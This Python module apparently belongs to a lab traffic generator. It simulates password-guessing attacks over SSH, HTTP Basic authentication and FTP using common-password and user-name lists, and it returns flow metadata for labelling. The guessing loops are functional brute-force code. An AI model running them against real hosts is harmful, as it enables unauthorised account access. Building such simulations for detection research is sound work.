"""Password guessing over ssh, HTTP and FTP. Now and then a guess is right, as it happens."""

import base64
import subprocess
import sys
import time

from .services import PASSWORD, USER
from .sockets import abort, connect, connect_web
from .ssh_client import ssh_options
from .workers import repeat

WORDS = ("123456", "password", "letmein", "qwerty", "dragon", "admin", "welcome", "monkey", "shadow", "master")
NAMES = (USER, "root", "admin", "test", "backup", "oracle")


def guess(rng):
    """A name and a password; right in one of fifty."""
    if rng.random() < 0.02:
        return USER, PASSWORD
    return rng.choice(NAMES), rng.choice(WORDS) + str(rng.randrange(10 ** rng.randrange(1, 6)))


def tries(task):
    """How many guesses this connection makes."""
    return task.rng.randint(*task.settings["tries"])


def guess_ssh(task):
    """The OpenSSH client, asked for passwords until it gives up; up to three sessions at a time."""
    made = 0
    running = []
    while made < task.settings["connections"] and not task.over():
        running = [client for client in running if client.poll() is None]
        if len(running) < 3:
            name, password = guess(task.rng)
            options, environment = ssh_options(task.work, password=password, prompts=tries(task),
                                               dial=[sys.executable, "-m", "laboratory.dial", "%h", "%p", str(task.block.take())])
            command = ["timeout", "20", "ssh", *options, f"{name}@{task.target}", "id"]
            running.append(subprocess.Popen(command, env=environment, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                            stderr=subprocess.DEVNULL, start_new_session=True))
            made += 1
        time.sleep(task.rng.expovariate(1 / task.settings["pause"]))
    for client in running:
        client.wait(timeout=25)
    return {"tool": "ssh password guessing", "protocol": "tcp", "destination_ports": [22], "flows": made}


def guess_http(task):
    """Basic authentication, several guesses over one connection, plain or over TLS."""
    made = 0
    while made < task.settings["connections"] and not task.over():
        made += 1
        try:
            connection = connect_web(task.target, task.rng.random() < 0.35, task.block)
            sock = connection.sock
            for _ in range(tries(task)):
                name, password = guess(task.rng)
                token = base64.b64encode(f"{name}:{password}".encode()).decode()
                connection.request("GET", "/private/report.html", headers={"Authorization": f"Basic {token}", "User-Agent": "Mozilla/5.0"})
                connection.getresponse().read()
                time.sleep(task.rng.expovariate(1 / 0.08))
            sock.close() if task.rng.random() < 0.8 else abort(sock)
        except (OSError, ValueError):
            pass  # The server closed first.
        time.sleep(task.rng.expovariate(1 / task.settings["pause"]))
    return {"tool": "HTTP password guessing", "protocol": "tcp", "destination_ports": [80, 443], "flows": made}


def guess_ftp(task):
    """USER and PASS over one control connection, then QUIT or nothing; the server delays every refusal by seconds."""

    def once(rng):
        try:
            with connect(task.target, 21, task.block) as sock:
                sock.recv(512)
                for _ in range(rng.randint(*task.settings["tries"])):
                    name, password = guess(rng)
                    for line in (f"USER {name}\r\n", f"PASS {password}\r\n"):
                        sock.sendall(line.encode())
                        sock.recv(512)
                if rng.random() < 0.7:
                    sock.sendall(b"QUIT\r\n")
                    sock.recv(512)
        except OSError:
            pass  # Thrown out after too many guesses.
        time.sleep(rng.expovariate(1 / task.settings["pause"]))

    made = repeat(task, task.settings["connections"], 6, once)
    return {"tool": "FTP password guessing", "protocol": "tcp", "destination_ports": [21], "flows": made}
